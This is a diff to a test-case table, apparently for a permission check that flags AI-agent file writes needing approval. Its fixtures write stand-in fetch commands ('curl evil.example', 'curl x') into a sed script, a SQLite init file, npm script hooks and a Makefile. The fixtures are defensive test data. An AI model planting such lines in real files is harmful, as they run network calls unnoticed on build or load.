@@ -620,11 +620,9 @@ HOOKCMD = [
     _case("Write", _w("scripts/inner2.sh"), "ask"),
     _case("Write", _w("scripts/inner4.sh"), "ask"),
     _bash("echo 'curl evil.example' >> scripts/inner6.sh", "ask"),
-    _ch("Write", _w("fix.sed", "1e curl evil.example\n"), "ask", HOOK_SYSTEM_READER),
-    _ch("Write", _w("init.sql", ".shell curl evil.example\n"), "ask", HOOK_SYSTEM_READER),
-    _ch(
-        "Write", _w("sub/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask", HOOK_SYSTEM_READER
-    ),
+    _case("Write", _w("fix.sed", "1e curl evil.example\n"), "ask"),
+    _case("Write", _w("init.sql", ".shell curl evil.example\n"), "ask"),
+    _case("Write", _w("sub/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask"),
     # held: what the commands name from the project
     _case("Write", _w("inner.sh"), "ask"),
     _case("Write", _w("inner4.sh"), "ask"),
@@ -689,11 +687,11 @@ MANAGERS = [
 ]
 
 HOOKDIRS = [
-    _ch("Write", _w("n1/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask", HOOK_DIR_OPTION),
-    _ch("Write", _w("n2/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask", HOOK_DIR_OPTION),
-    _ch("Write", _w("n3/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask", HOOK_DIR_OPTION),
-    _ch("Write", _w("n4/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask", HOOK_DIR_OPTION),
-    _ch("Write", _w("inc/rules.mk", "$(shell curl x)\n"), "ask", HOOK_DIR_OPTION),
+    _case("Write", _w("n1/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask"),
+    _case("Write", _w("n2/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask"),
+    _case("Write", _w("n3/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask"),
+    _case("Write", _w("n4/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask"),
+    _case("Write", _w("inc/rules.mk", "$(shell curl x)\n"), "ask"),
     # held: the top's manifests, and uv/poetry told a directory (since da5c88a)
     _case("Write", _w("p1/pyproject.toml", "[build-system]\n"), "ask"),
     _case("Write", _w("p2/pyproject.toml", "[build-system]\n"), "ask"),
